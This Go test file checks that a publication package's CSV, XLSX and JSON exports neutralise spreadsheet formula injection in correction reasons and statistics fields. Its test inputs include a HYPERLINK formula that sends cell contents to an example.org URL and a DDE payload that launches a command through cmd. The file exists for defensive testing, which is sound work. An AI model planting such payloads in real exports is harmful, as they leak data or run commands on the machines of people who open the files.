package publication_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"redress/internal/lang"
	"redress/internal/publication"
)

// restating is a release that lists corrections for these reasons, and a change
// below 0.
func restating(reasons []string) publication.Release {
	total, change := int64(5), int64(-7)
	r := publication.Release{Measures: []publication.MeasureRelease{{Measure: publication.Claimed, Total: &total, Change: &change}}}
	for _, reason := range reasons {
		r.Restatements = append(r.Restatements, publication.Restatement{
			Date: "2022-12-20", Release: 1, Measure: publication.Claimed, Reason: lang.T(reason, reason),
		})
	}
	return r
}

// computes reports whether a spreadsheet would take a cell for a formula.
func computes(cell string) bool {
	_, err := strconv.ParseInt(cell, 10, 64)
	return err != nil && slices.ContainsFunc([]string{"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"}, func(first string) bool {
		return strings.HasPrefix(cell, first)
	})
}

// tester is a test, or one of many that rapid makes of it.
type tester interface {
	Helper()
	Errorf(format string, args ...any)
	Fatal(args ...any)
}

// inCSV are the reasons as a spreadsheet shows them that reads the release as CSV.
func inCSV(t tester, r publication.Release) (reasons []string) {
	t.Helper()
	var b bytes.Buffer
	if err := r.WriteCSV(&b, lang.English); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if computes(cell) {
				t.Errorf("a spreadsheet computes %q", cell)
			}
		}
		switch row[0] {
		case "restatement":
			reasons = append(reasons, strings.TrimPrefix(row[10], "'"))
		case "total":
			if row[7] != "-7" {
				t.Errorf("the change is %q", row[7])
			}
		}
	}
	return reasons
}

// inXLSX are the reasons as a workbook has them, each of which has to be a text.
func inXLSX(t testing.TB, r publication.Release) (reasons []string) {
	t.Helper()
	var b bytes.Buffer
	if err := r.WriteXLSX(&b, lang.English); err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	rows, err := book.GetRows("release")
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range rows {
		if row[0] != "restatement" {
			continue
		}
		cell, err := excelize.CoordinatesToCellName(11, i+1)
		if err != nil {
			t.Fatal(err)
		}
		kind, err := book.GetCellType("release", cell)
		if err != nil {
			t.Fatal(err)
		}
		formula, err := book.GetCellFormula("release", cell)
		if err != nil {
			t.Fatal(err)
		}
		if kind != excelize.CellTypeSharedString || formula != "" {
			t.Errorf("%s is of type %d with the formula %q", cell, kind, formula)
		}
		reasons = append(reasons, row[10])
	}
	return reasons
}

// inJSON are the reasons as the bytes have them that the log holds.
func inJSON(t testing.TB, r publication.Release) (reasons []string) {
	t.Helper()
	data, err := r.JSON()
	if err != nil {
		t.Fatal(err)
	}
	var read publication.Release
	if err := json.Unmarshal(data, &read); err != nil {
		t.Fatal(err)
	}
	for _, s := range read.Restatements {
		reasons = append(reasons, s.Reason.EN)
	}
	return reasons
}

// A reason that begins as a formula is a text in every format, and the same one.
func TestNoTextBecomesAFormula(t *testing.T) {
	reasons := []string{
		`=HYPERLINK("https://example.org/?"&A1,"open")`, "+1+cmd|' /C calc'!A0", "-2+3", "- counted twice", "@SUM(1+1)*A1", "\t=1+1", "＝1+1", "＋1", "－1", "＠A1",
		"'quoted'", "''", "'=1", `"=1+1",=1`, "plain", "1=1", "a, b", "first\nsecond", "-5",
	}
	r := restating(reasons)
	for format, got := range map[string][]string{"CSV": inCSV(t, r), "XLSX": inXLSX(t, r), "JSON": inJSON(t, r)} {
		if !slices.Equal(got, reasons) {
			t.Errorf("%s has %q", format, got)
		}
	}
	rapid.Check(t, func(t *rapid.T) {
		reason := rapid.StringMatching(`[=+\-@'"\t\n＝＋－＠ a1,;|!]{1,6}`).Draw(t, "reason")
		if got := inCSV(t, restating([]string{reason})); len(got) != 1 || got[0] != reason {
			t.Errorf("%q comes back as %q", reason, got)
		}
	})
}

// Statistics are written by the same rule.
func TestNoCodeOfStatisticsBecomesAFormula(t *testing.T) {
	s := publication.Statistics{Incident: "=1+1", At: "@now"}
	var b bytes.Buffer
	if err := s.WriteCSV(&b, lang.English); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.ContainsFunc(rows, func(row []string) bool { return row[0] == "at" && row[2] == "'=1+1" && row[7] == "'@now" }) {
		t.Errorf("rows %q", rows)
	}
}
